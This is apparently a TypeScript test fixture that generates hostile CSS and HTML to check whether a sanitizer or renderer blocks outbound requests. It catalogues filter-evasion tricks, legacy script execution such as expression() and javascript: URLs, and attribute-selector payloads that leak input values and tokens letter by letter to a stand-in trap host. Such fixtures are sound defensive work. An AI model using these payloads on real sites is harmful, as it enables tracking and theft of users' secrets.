import { type HostileHtml, TRAP_URL } from "./hostile-payload.ts";

const url = (name: string) => `${TRAP_URL}/css-${name}`;

/** What a style sheet can ask an address for, and the ways to spell that. */
const sheets = (): [string, string][] => [
  ["import bare", `@import ${url("i1")};`],
  ["import in capitals", `@IMPORT URL("${url("i2")}");`],
  ["import escaped", `@\\69mport "${url("i3")}";`],
  ["import with a layer", `@import url("${url("i4")}") layer(a) supports(display:grid) screen;`],
  ["import after a charset", `@charset "utf-8";@import '${url("i5")}';`],
  ["import after a comment mark", `<!-- @import "${url("i6")}"; -->`],
  ["import without an end", `@import "${url("i7")}`],
  ["import within a rule", `@media screen{@import "${url("i8")}";}`],
  ["font", `@font-face{font-family:a;src:url("${url("f1")}")}p{font-family:a}`],
  ["font by letters", `@font-face{font-family:b;src:url(${url("f2")});unicode-range:U+0041}p{font-family:b}`],
  [
    "font with a format",
    `@font-face{font-family:c;src:local(x),url(${url("f3")}) format("woff2")}*{font-family:c}`,
  ],
  ["background", `p{background:red url(${url("b1")}) no-repeat}`],
  ["several backgrounds", `p{background-image:url(data:,),url(${url("b2")})}`],
  ["escaped function", `p{background:\\55\\52\\4c(${url("b3")})}`],
  ["half escaped function", `p{background:u\\72 l(${url("b4")})}`],
  ["escaped address", `p{background:url(\\68ttp\\3a //trap.daylight.test/css-b5)}`],
  ["string over two lines", `p{background:url("ht\\\ntp://trap.daylight.test/css-b6")}`],
  ["address without an end", `p{background:url(${url("b7")}`],
  ["string without an end", `p{background:url("${url("b8")}`],
  ["address by a variable", `:root{--u:url(${url("v1")})}p{background:var(--u)}`],
  ["address by a fallback", `p{background:var(--none,url(${url("v2")}))}`],
  [
    "registered variable",
    `@property --p{syntax:"<url>";inherits:false;initial-value:url(${url("v3")})}p{background:var(--p)}`,
  ],
  ["image set", `p{background:image-set("${url("s1")}" 1x,url(${url("s2")}) 2x)}`],
  ["old image set", `p{background:-webkit-image-set(url(${url("s3")}) 1x)}`],
  ["cross fade", `p{background:-webkit-cross-fade(url(${url("s4")}),url(${url("s5")}),50%)}`],
  ["src function", `p{background:src("${url("s6")}")}`],
  ["attr function", `p{background:attr(title type(<url>))}`],
  ["list", `ul{list-style-image:url(${url("l1")})}li{list-style:url(${url("l2")})}`],
  ["counter style", `@counter-style c{system:cyclic;symbols:url(${url("l3")}) "x"}ul{list-style:c}`],
  ["cursor", `*{cursor:url(${url("c1")}),url(${url("c2")}) 4 4,pointer}`],
  ["content", `p::before{content:url(${url("c3")})}p::after{content:"x" / url(${url("c4")})}`],
  ["marker", `li::marker{content:url(${url("c5")})}`],
  ["border image", `p{border:9px solid;border-image-source:url(${url("e1")})}`],
  [
    "mask",
    `p{mask-image:url(${url("m1")});-webkit-mask:url(${url("m2")});-webkit-mask-box-image:url(${url("m3")})}`,
  ],
  [
    "clip and filter",
    `p{clip-path:url(${url("m4")}#a);filter:url(${url("m5")}#a);backdrop-filter:url(${url("m6")}#a)}`,
  ],
  ["shape", `p{float:left;shape-outside:url(${url("m7")});offset-path:url(${url("m8")}#a)}`],
  [
    "selection and first letter",
    `p::first-letter{background:url(${url("p1")})}p::selection{background:url(${url("p2")})}`,
  ],
  [
    "hover and focus",
    `a:hover{background:url(${url("p3")})}:focus{background:url(${url("p4")})}a:visited{background:url(${url("p5")})}`,
  ],
  ["root and frame", `html{background:url(${url("p6")})}:root,body{background:url(${url("p7")})}`],
  ["nested rules", `p{& b,&{background:url(${url("n1")})}@media all{background:url(${url("n2")})}}`],
  [
    "supports and container",
    `@supports (a:b) or (color:red){p{background:url(${url("n3")})}}@container (width>1px){p{background:url(${url("n4")})}}`,
  ],
  [
    "scope and layer",
    `@scope (body){p{background:url(${url("n5")})}}@layer x{p{background:url(${url("n6")})}}`,
  ],
  [
    "media probing",
    `@media (min-width:1px){p{background:url(${url("w1")})}}@media (prefers-color-scheme:light){b{background:url(${url("w2")})}}`,
  ],
  [
    "key frames",
    `@keyframes k{from{background:url(${url("k1")})}to{background:url(${url("k2")})}}p{animation:k 1ms infinite}`,
  ],
  [
    "view transition",
    `::view-transition{background:url(${url("k3")})}::backdrop{background:url(${url("k4")})}`,
  ],
  ["namespace", `@namespace url(${url("k5")});p{background:url(${url("k6")})}`],
  [
    "old ways to run",
    `p{behavior:url(${url("o1")});-moz-binding:url(${url("o2")});width:expression(top.ran=1);background:url(javascript:top.ran=1)}`,
  ],
  ["comment in a word", `p{background:u/**/rl(${url("o3")});back/**/ground:url(${url("o4")})}`],
  ["form feed and NUL", `p{\fbackground\f:\furl(${url("o5")})}b{background:url(\u0000${url("o6")})}`],
];

/** Letters of a secret, asked for one by one where they match. */
const readers = (): [string, string][] => [
  [
    "values",
    [..."abcdef"]
      .map((letter) => `input[value^="${letter}"]{background:url(${url(`r-${letter}`)})}`)
      .join(""),
  ],
  ["hidden values", `input[type=hidden][value*="a"]~p{background:url(${url("r1")})}`],
  ["links", `a[href^="https"],a[href*="token=1"]{background:url(${url("r2")})}`],
  [
    "has",
    `html:has(input[value^="a"]){background:url(${url("r3")})}body:has(p){background:url(${url("r4")})}`,
  ],
  [
    "languages and directions",
    `:lang(en){background:url(${url("r5")})}:dir(ltr){background:url(${url("r6")})}`,
  ],
  ["text by its font", `@font-face{font-family:t;src:url(${url("r7")});unicode-range:U+73}p{font-family:t}`],
  [
    "ligatures by scroll bars",
    `body::-webkit-scrollbar{background:url(${url("r8")})}body{overflow-y:scroll}`,
  ],
];

/** Every one as an element and, where that makes sense, as an attribute. */
export function hostileStyles(): HostileHtml[] {
  const displayed = `<input value="abc"><a href="https://x.example/?token=1" title="${url("attr")}">x</a><ul><li>x</ul><p title="${url("attr")}">secret <b>words</b></p>`;
  const elements = [...sheets(), ...readers()].map(([name, css]) => ({
    name: `style sheet by ${name}`,
    html: `<style>${css}</style>${displayed}`,
  }));
  const attributes = sheets()
    .map(([name, css]) => [name, /^[^@{]+\{([^{}]*)/.exec(css)?.[1] ?? ""] as const)
    .filter(([, declarations]) => declarations !== "")
    .map(([name, declarations]) => ({
      name: `style attribute by ${name}`,
      html: `<p style="${declarations.replaceAll('"', "&quot;")}">secret words</p>`,
    }));
  const svg = sheets()
    .filter((_, at) => at % 4 === 0)
    .map(([name, css]) => ({
      name: `style in SVG by ${name}`,
      html: `<svg><style>${css}</style><text>x</text></svg>${displayed}`,
    }));
  return [...elements, ...attributes, ...svg];
}
